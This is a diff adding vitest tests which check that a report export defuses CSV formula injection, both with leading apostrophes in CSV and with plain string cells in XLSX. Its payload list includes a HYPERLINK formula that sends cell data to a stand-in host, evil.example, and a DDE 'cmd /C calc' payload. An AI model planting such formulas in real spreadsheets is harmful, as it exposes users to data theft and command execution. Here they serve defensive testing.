@@ -2,7 +2,7 @@ import { parse } from 'csv-parse/sync'
 import ExcelJS from 'exceljs'
 import { describe, expect, it } from 'vitest'
 import type { Column } from './columns.ts'
-import { downloadName } from './columns.ts'
+import { csvCell, csvSafe, downloadName } from './columns.ts'
 import { pagedRows } from './paged-rows.server.ts'
 import { csvResponse } from './write-csv.server.ts'
 import { xlsxResponse } from './write-xlsx.server.ts'
@@ -82,6 +82,54 @@ describe('report downloads', () => {
     }
     expect(calls).toEqual([null, 10, 20])
     expect(seen.at(-1)).toBe(30)
+  })
+
+  // OWASP's CSV injection payloads: the issue's, and one of each character a spreadsheet starts a formula with.
+  const payloads = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    '+1+2',
+    '@SUM(1,2)',
+    "=cmd|' /C calc'!A0",
+    '-2+3',
+    '\t=1+1',
+    '\r=1+1',
+    '=Sharma Kirana',
+  ]
+
+  it('CSV: a text cell that a spreadsheet would run as a formula gets a leading apostrophe', () => {
+    for (const payload of payloads) expect(csvSafe(payload)).toBe(`'${payload}`)
+    for (const plain of ['Sharma Kirana', 'a=b', 'x-1', "'quoted", '', '9812345670', 'रमेश']) {
+      expect(csvSafe(plain)).toBe(plain)
+    }
+    // Every kind of column that carries text goes through it; numbers stay numbers (a negative one too).
+    expect(csvCell('text', '@SUM(1,2)')).toBe("'@SUM(1,2)")
+    expect(csvCell('date', '=1+1')).toBe("'=1+1")
+    expect(csvCell('number', -5)).toBe('-5')
+    expect(csvCell('money', 250000)).toBe('250000')
+    expect(csvCell('number', '=1+1' as unknown as number)).toBe("'=1+1")
+  })
+
+  it('CSV: the written file carries the defused cells, quoted where needed', async () => {
+    const named = payloads.map((name, id) => ({ ...rows[0]!, id, name }))
+    const res = csvResponse('x.csv', columns, each(named))
+    const parsed = parse(Buffer.from(await res.arrayBuffer()).toString('utf8'), { bom: true }) as string[][]
+    expect(parsed.slice(1).map((r) => r[0])).toEqual(payloads.map((p) => `'${p}`))
+  })
+
+  it('XLSX: the same payloads are plain string cells, never formulas', async () => {
+    const named = payloads.map((name, id) => ({ ...rows[0]!, id, name }))
+    const res = xlsxResponse('x.xlsx', 'Report', columns, each(named))
+    const bytes = Buffer.from(await res.arrayBuffer())
+    const book = new ExcelJS.Workbook()
+    await book.xlsx.load(bytes as unknown as ArrayBuffer)
+    const sheet = book.getWorksheet('Report')!
+    payloads.forEach((payload, i) => {
+      const cell = sheet.getRow(i + 2).getCell(1)
+      expect(cell.type).toBe(ExcelJS.ValueType.String)
+      expect(cell.formula).toBeUndefined()
+      // XML reads a carriage return back as a line feed; the text is otherwise exactly what was sent.
+      expect(cell.value).toBe(payload.replace(/\r/g, '\n'))
+    })
   })
 
   it('names a file after the report and its range', () => {
